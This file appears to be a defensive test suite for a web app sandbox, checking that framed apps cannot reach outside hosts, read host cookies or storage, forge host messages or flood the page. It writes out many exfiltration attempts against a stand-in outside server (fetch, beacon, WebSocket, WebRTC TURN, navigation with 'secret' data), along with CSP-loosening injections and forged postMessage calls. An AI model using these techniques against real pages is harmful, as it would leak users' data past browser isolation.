import type { Page } from "playwright-core";
import { sandboxHandler } from "portolan-host/apps/sandbox";
import { describe, expect, test } from "vitest";
import { endOf, runApp, showApp } from "./run.ts";
import { appWith, openStage, serve } from "./stage.ts";

/** Ways to reach another machine from a document. Each returns when the browser has decided. */
const waysOut = (outside: string) => `
  const load = (tag, members) => new Promise((resolve) => {
    const element = Object.assign(document.createElement(tag), members);
    element.onload = () => resolve("loaded");
    element.onerror = () => resolve("blocked");
    document.head.append(element);
  });
  const violation = (directive, cause) => new Promise((resolve) => {
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
      if (effectiveDirective === directive) resolve(directive);
    });
    cause();
  });
  const add = (tag, members) => document.body.appendChild(Object.assign(document.createElement(tag), members));
  await attempt("fetch", () => fetch("${outside}/fetch"));
  await attempt("no-cors", () => fetch("${outside}/no-cors", { mode: "no-cors" }));
  await attempt("xhr", () => new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.onload = () => resolve("loaded");
    request.onerror = () => resolve("blocked");
    request.open("GET", "${outside}/xhr");
    request.send();
  }));
  await attempt("beacon", () => violation("connect-src", () => navigator.sendBeacon("${outside}/beacon", "secret")));
  await attempt("socket", () => new Promise((resolve) => {
    const socket = new WebSocket("${outside.replace("http", "ws")}/socket");
    socket.onopen = () => resolve("open");
    socket.onerror = () => resolve("blocked");
  }));
  await attempt("events", () => violation("connect-src", () => new EventSource("${outside}/events")));
  await attempt("image", () => load("img", { src: "${outside}/image.png" }));
  await attempt("script", () => load("script", { src: "${outside}/script.js" }));
  await attempt("style", () => load("link", { rel: "stylesheet", href: "${outside}/style.css" }));
  await attempt("prefetch", () => load("link", { rel: "prefetch", href: "${outside}/prefetch" }));
  await attempt("import", () => import("${outside}/import.js"));
  await attempt("font", () => new FontFace("x", "url(${outside}/font.woff)").load());
  await attempt("background", () => violation("img-src", () => { document.body.style.background = "url(${outside}/background.png)"; }));
  await attempt("video", () => violation("media-src", () => add("video", { src: "${outside}/video.mp4" })));
  await attempt("object", () => violation("object-src", () => add("object", { data: "${outside}/object" })));
  await attempt("worker", () => violation("worker-src", () => new Worker("data:text/javascript,importScripts('${outside}/worker.js')")));
  await attempt("frame", () => violation("frame-src", () => add("iframe", { src: "${outside}/frame" })));
  await attempt("base", () => violation("base-uri", () => add("base", { href: "${outside}/base/" })));
  await attempt("open", () => window.open("${outside}/open"));
  await attempt("blank", () => add("a", { href: "${outside}/blank", target: "_blank" }).click());
  await attempt("top", () => { top.location = "${outside}/top"; });
  await attempt("parent", () => { parent.location = "${outside}/parent"; });
`;

/** Apps without an origin, and apps with one of their own. */
const kinds = [
  ["without an origin", {}],
  ["with an origin of its own", { own: "chess" }],
] as const;

test.each(kinds)("an app %s that declares nothing reaches no other machine", async (_, own) => {
  const stage = await openStage();
  const tries = await runApp(stage, waysOut(stage.outside), own);
  expect(tries).toEqual({
    fetch: "failed: TypeError",
    "no-cors": "failed: TypeError",
    xhr: "blocked",
    beacon: "connect-src",
    socket: "blocked",
    events: "connect-src",
    image: "blocked",
    script: "blocked",
    style: "blocked",
    prefetch: "blocked",
    import: "failed: TypeError",
    font: "failed: NetworkError",
    background: "img-src",
    video: "media-src",
    object: "object-src",
    worker: "worker-src",
    frame: "frame-src",
    base: "base-uri",
    open: "null",
    blank: "undefined",
    top: "failed: SecurityError",
    parent: "failed: SecurityError",
  });
  expect(stage.heard).toEqual([]);
  expect(stage.page.url()).toBe(`${stage.origin}/`);
});

const exits = [
  ["a script", (to: string) => `location.href = "${to}/self?secret";`, ""],
  ["a refresh", () => "", (to: string) => `<meta http-equiv="refresh" content="0; url=${to}/refresh?secret">`],
  [
    "a form",
    (to: string) =>
      `document.body.append(Object.assign(document.createElement("form"), { action: "${to}/form" })); document.forms[0].submit();`,
    "",
  ],
  [
    "a link",
    (to: string) => `document.body.innerHTML = '<a href="${to}/link?secret">x</a>'; document.links[0].click();`,
    "",
  ],
] as const;

test.each(kinds.flatMap(([kind, own]) => exits.map(([by, script, head]) => [kind, by, own, script, head] as const)))(
  "an app %s cannot leave by %s and take its data along",
  async (_, __, own, script, head) => {
    const stage = await openStage();
    const html = appWith(script(stage.outside), typeof head === "string" ? head : head(stage.outside));
    await showApp(stage, { html, ...own });
    await stage.page.waitForFunction(() => window.shown !== undefined);
    // The frame shows the browser's own error page.
    await expect.poll(() => stage.page.frames().map((frame) => frame.url())).toContain("chrome-error://chromewebdata/");
    expect(stage.heard).toEqual([]);
    // The host still answers, and the app can be removed.
    await stage.page.evaluate(() => window.shown.session.close());
    expect(await stage.page.locator("iframe").count()).toBe(0);
  },
);

test("an app cannot loosen its policy by its own document or by what its server declares", async () => {
  const stage = await openStage();
  const ui = {
    csp: {
      connectDomains: [`${stage.outside}; script-src *`, "*", "'unsafe-eval'", `https://a.example ${stage.outside}`],
      frameDomains: ["data:", "blob:", "*:*"],
      resourceDomains: [`${stage.outside}\n`, "https:"],
    },
  };
  const tries = await runApp(
    stage,
    `document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="Content-Security-Policy" content="connect-src *">');
     await attempt("fetch", () => fetch("${stage.outside}/fetch"));
     await attempt("eval", () => eval("1"));`,
    { ui },
  );
  expect(tries).toEqual({ fetch: "failed: TypeError", eval: "failed: EvalError" });
  expect(stage.heard).toEqual([]);
  const [opened] = (await stage.page.evaluate(() => window.log())) as { dropped: string[]; csp: object }[];
  expect(opened?.dropped).toHaveLength(9);
  expect(Object.values(opened?.csp ?? {}).flat()).toEqual([]);
});

test.each(kinds)(
  "frames inside an app %s have its policy, and neither its host nor its sandbox listens to them",
  async (_, own) => {
    const stage = await openStage();
    const message = `{ jsonrpc: "2.0", id: "n", method: "tools/call", params: { name: "forApp" } }`;
    const inner = `
    for (const target of [parent.parent, top]) target.postMessage(${message}, "*");
    fetch("${stage.outside}/nested").catch((error) => parent.postMessage({ nested: error.name + " " + window.origin }, "*"));
  `;
    const tries = await runApp(
      stage,
      `const answer = new Promise((resolve) => window.addEventListener("message", ({ data }) => data.nested && resolve(data.nested)));
     const frame = document.createElement("iframe");
     frame.srcdoc = "<script>" + ${JSON.stringify(inner)} + "<" + "/script>";
     document.body.append(frame);
     await attempt("nested", () => answer);
     await attempt("ping", async () => (await call("ping")).result);`,
      own,
    );
    const origin = "own" in own ? stage.sandbox.replace("//", `//${own.own}.`) : "null";
    expect(tries).toEqual({ nested: `TypeError ${origin}`, ping: "[object Object]" });
    expect(await stage.page.evaluate(() => window.shown.called)).toEqual(["show"]);
    expect(stage.heard).toEqual([]);
  },
);

test("an app reads nothing of the host or of the sandbox", async () => {
  const stage = await openStage();
  await stage.page.context().addCookies([{ name: "own", value: "sandbox", url: stage.sandbox }]);
  const tries = await runApp(
    stage,
    `await attempt("origin", () => window.origin);
     await attempt("cookie", () => document.cookie);
     await attempt("localStorage", () => localStorage.length);
     await attempt("sessionStorage", () => sessionStorage.length);
     await attempt("indexedDB", () => new Promise((_, reject) => { try { indexedDB.open("a").onerror = reject; } catch (error) { reject(error); } }));
     await attempt("caches", () => caches.keys());
     await attempt("parent", () => parent.document.body.innerHTML);
     await attempt("top", () => top.document.cookie);
     await attempt("sibling", () => top.frames[0].document);
     await attempt("referrer", () => document.referrer);
     await attempt("host", () => fetch("${stage.origin}/page.js", { credentials: "include" }));
     await attempt("serviceWorker", () => navigator.serviceWorker.register("/x.js"));`,
  );
  const { referrer, ...rest } = tries;
  expect(Object.values(rest).filter((value) => !value.startsWith("failed"))).toEqual(["null"]);
  expect(rest["origin"]).toBe("null");
  expect(["", stage.sandbox]).toContain((referrer ?? "").replace(/\/$/, ""));
});

test("an app calls neither a tool for models nor one of another server", async () => {
  const stage = await openStage();
  const tries = await runApp(
    stage,
    `const text = async (name) => { const { result, error } = await call("tools/call", { name }); return error ? error.code : result.isError ? "refused" : result.content[0].text; };
     for (const name of ["forModel", "pay", "bank.pay", "forApp"]) await attempt(name, () => text(name));
     await attempt("list", async () => (await call("tools/list")).error.code);`,
  );
  expect(tries).toEqual({
    ...{ forModel: "refused", pay: "-32602", "bank.pay": "-32602", forApp: "result of forApp", list: "-32601" },
  });
  expect(await stage.page.evaluate(() => window.shown.called)).toEqual(["show", "forApp"]);
});

const forever = (statement: string) => `setInterval(() => { for (let at = 0; at < 200; at += 1) ${statement}; }, 1);`;

test.each([
  ["through its sandbox", forever(`report("x")`), "flood"],
  ["past its sandbox", forever(`top.postMessage({ flood: true }, "*")`), "closed"],
  [
    "from frames inside it",
    `document.body.append(Object.assign(document.createElement("iframe"), { srcdoc: "<script>" + ${JSON.stringify(
      forever("top.postMessage(1, '*')"),
    )} + "<" + "/script>" }));`,
    "closed",
  ],
])("an app that floods its host %s is removed", async (_, script, end) => {
  const stage = await openStage();
  await showApp(stage, { html: appWith(script), teardownMs: 100 });
  expect(await endOf(stage)).toBe(end);
  expect(await stage.page.locator("iframe").count()).toBe(0);
  // The page is still there.
  expect(await stage.page.title()).toBe("Host");
});

test.each([
  ["one long text", `report("x".repeat(6 * 1024 * 1024));`, "too-large"],
  // The page ends it itself: a message like this must not be written as JSON on its way to a session elsewhere.
  [
    "one part that occurs very often",
    `let x = "x".repeat(999); for (let i = 0; i < 50; i += 1) x = [x, x]; report(x);`,
    "closed",
  ],
])("an app that sends a message with %s is removed", async (_, script, end) => {
  const stage = await openStage();
  await showApp(stage, { html: appWith(script), teardownMs: 100 });
  expect(await endOf(stage)).toBe(end);
  expect(await stage.page.locator("iframe").count()).toBe(0);
});

test.each(kinds)("messages between the host and the sandbox of an app %s cannot be forged", async (_, own) => {
  const stage = await openStage();
  const forged = {
    html: "<!doctype html><script>parent.postMessage({ jsonrpc: '2.0', id: 'f', method: 'ping' }, '*')</script>",
  };
  const tries = await runApp(
    stage,
    `for (const name of ["sandbox-proxy-ready", "sandbox-resource-ready"]) {
       const message = { method: "ui/notifications/" + name, params: ${JSON.stringify(forged).replaceAll("</", "<\\/")} };
       post(message);
       parent.postMessage({ jsonrpc: "2.0", ...message }, "*");
       top.postMessage({ jsonrpc: "2.0", ...message }, "*");
     }
     await attempt("ping", async () => Object.keys(await call("ping")).join());`,
    own,
  );
  expect(tries).toEqual({ ping: "jsonrpc,id,result" });
  // Another frame of the page, and the page itself.
  await stage.page.evaluate(() => {
    const message = { jsonrpc: "2.0", id: "forged", method: "tools/call", params: { name: "forApp" } };
    window.postMessage(message, "*");
    const frame = document.createElement("iframe");
    frame.srcdoc = `<script>top.postMessage(${JSON.stringify(message)}, "*"); top.postMessage("sent", "*")</script>`;
    const sent = new Promise((resolve) =>
      window.addEventListener("message", ({ data }) => data === "sent" && resolve(1)),
    );
    document.body.append(frame);
    return sent;
  });
  expect(await stage.page.evaluate(() => window.shown.called)).toEqual(["show"]);
  const log = JSON.stringify(await stage.page.evaluate(() => window.log()));
  expect(log).not.toMatch(/forged|sandbox-proxy-ready|sandbox-resource-ready/);
});

test.each([
  [
    "WebRTC",
    (to: string) => `
      const server = { urls: "turn:${to.replace("http://", "")}?transport=tcp", username: "secret", credential: "x" };
      const out = new RTCPeerConnection({ iceServers: [server] });
      out.createDataChannel("out");
      await out.setLocalDescription(await out.createOffer());`,
  ],
  // The browser connects before it asks the policy. No request follows, but the name of a machine can hold data.
  ["the connection of a navigation that is then forbidden", (to: string) => `location.href = "${to}/";`],
])("an app gets out by %s, which no page can stop, and the user is told before", async (_, script) => {
  const stage = await openStage();
  await showApp(stage, { html: appWith(script(stage.outside)) });
  // If this fails, the browser has learned to stop it, and the warning may be shortened.
  await expect.poll(() => stage.connections.count, { timeout: 20_000 }).toBeGreaterThan(0);
  expect(stage.heard).toEqual([]);
  const asked = JSON.stringify(await stage.page.evaluate(() => window.shown.asked));
  expect(asked).toMatch(/WebRTC, or by looking up and connecting/);
});

describe("the sandbox", () => {
  const path = async (handler: ReturnType<typeof sandboxHandler>) => handler.add({ permissions: [] }).path;

  test("is refused on the origin of the page that shows it", async () => {
    const stage = await openStage();
    const shown = showApp(stage, { html: appWith(""), sandbox: stage.origin });
    await expect(shown).rejects.toThrow(/an origin of its own/);
    expect(() => sandboxHandler({ hosts: ["https://host.example/path"] })).toThrow(/hosts/);
    expect(() => sandboxHandler({ hosts: [] })).toThrow(/hosts/);
    expect(() => sandboxHandler({ hosts: ["*"] })).toThrow(/hosts/);
    // A handler that is reached under the name of a host answers nothing.
    const handler = sandboxHandler({ hosts: ["https://host.example"] });
    const own = new Request(`https://host.example${await path(handler)}`, {
      headers: { referer: "https://host.example/" },
    });
    expect(handler.fetch(own).status).toBe(421);
  });

  test("does nothing in a window of its own, in a page that it does not know, or without its path", async () => {
    const stage = await openStage();
    await runApp(stage, "");
    const address = await stage.page.evaluate(() => window.shown.mounted.frame.src);
    const context = await stage.page.context().browser()?.newContext();
    const other = (await context?.newPage()) as Page;
    expect((await other.goto(address))?.status()).toBe(403);
    const port = await serve((_, response) => {
      response.setHeader("content-type", "text/html");
      response.end(`<!doctype html><iframe src="${address}"></iframe>`);
    });
    await other.goto(`http://127.0.0.1:${port}/`);
    await expect.poll(() => other.frames()[1]?.url()).toMatch(/chrome-error|\/app\//);
    const framed = await other.frames()[1]?.content();
    expect(framed).not.toContain("<script");
    expect((await fetch(`${stage.sandbox}/app/guessed`, { headers: { referer: `${stage.origin}/` } })).status).toBe(
      404,
    );
    expect((await fetch(address, { headers: { referer: `${stage.origin}/` }, method: "POST" })).status).toBe(405);
    expect((await fetch(address)).status).toBe(403);
  });

  test("has checks of its own, for a server that has none", async () => {
    const handler = sandboxHandler({ hosts: ["http://127.0.0.1:1"] });
    const given = new Request(`http://sandbox.example${await path(handler)}`, {
      headers: { referer: "http://127.0.0.1:1/" },
    });
    const text = await handler.fetch(given).text();
    const stage = await openStage();
    const port = await serve((request, response) => {
      response.setHeader("content-type", "text/html");
      response.end(request.url === "/copy" ? text : `<!doctype html><iframe src="/copy"></iframe>`);
    });
    await stage.page.goto(`http://127.0.0.1:${port}/`);
    const framed = stage.page.frameLocator("iframe").locator("body");
    await expect.poll(() => framed.textContent()).toMatch(/must not have the origin/);
    await stage.page.goto(`http://127.0.0.1:${port}/copy`);
    await expect.poll(() => stage.page.locator("body").textContent()).toMatch(/only in a frame/);
    const outer = await serve((_, response) => {
      response.setHeader("content-type", "text/html");
      response.end(`<!doctype html><iframe src="http://127.0.0.1:${port}/copy" referrerpolicy="origin"></iframe>`);
    });
    await stage.page.goto(`http://127.0.0.1:${outer}/`);
    await expect.poll(() => framed.textContent()).toMatch(/does not know/);
  });

  test("forgets apps, the oldest first", async () => {
    const handler = sandboxHandler({ hosts: ["https://host.example"], maxApps: 2 });
    const pages = [1, 2, 3].map(() => handler.add({ permissions: [] }));
    const status = (at: number) =>
      handler.fetch(
        new Request(`https://sandbox.example${pages[at]?.path}`, { headers: { referer: "https://host.example/" } }),
      ).status;
    expect([status(0), status(1), status(2)]).toEqual([404, 200, 200]);
    pages[2]?.remove();
    expect(status(2)).toBe(404);
    expect(() =>
      handler.add({ sources: { connect: ["https://a; x"], resources: [], frames: [], base: [] }, permissions: [] }),
    ).toThrow();
  });
});
